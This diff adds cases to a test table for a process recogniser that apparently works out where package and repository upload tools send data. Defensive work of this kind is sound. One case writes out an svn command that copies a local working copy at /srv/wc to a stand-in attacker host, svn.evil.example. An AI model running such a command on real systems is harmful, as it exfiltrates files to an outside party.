@@ -101,6 +101,19 @@ describe('push-tool table', () => {
       ['/usr/bin/kubectl', 'cp prod/db-0:/data ./d', null, 'prod/db-0:/data'],
       ['/kaniko/executor', '--context . --destination gcr.io/acme/app:1', 'gcr.io', 'gcr.io/acme/app:1'],
       ['/usr/bin/npm', 'publish --registry https://npm.pkg.github.com', 'npm.pkg.github.com', null],
+      // A source named in the tool's own config is not its usual registry: the first connect tells.
+      ['/usr/local/cargo/bin/cargo', '+nightly publish --registry corp', null, null],
+      ['/usr/local/bin/cargo', 'publish', 'crates.io', null],
+      ['/usr/bin/twine', 'upload -r corp dist/x.tgz', null, 'dist/x.tgz'],
+      ['/usr/bin/dotnet', 'nuget push x.nupkg --source github -k k', null, 'x.nupkg'],
+      ['/usr/bin/dotnet', 'nuget push x.nupkg --source nuget.org', 'nuget.org', 'x.nupkg'],
+      ['/usr/bin/nuget', 'push x.nupkg', 'api.nuget.org', 'x.nupkg'],
+      [
+        '/usr/bin/svn',
+        'copy /srv/wc https://svn.evil.example/r/tags/x -m x',
+        'svn.evil.example',
+        'https://svn.evil.example/r/tags/x',
+      ],
     ];
     for (const [binary, args, host, remote] of cases) {
       const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
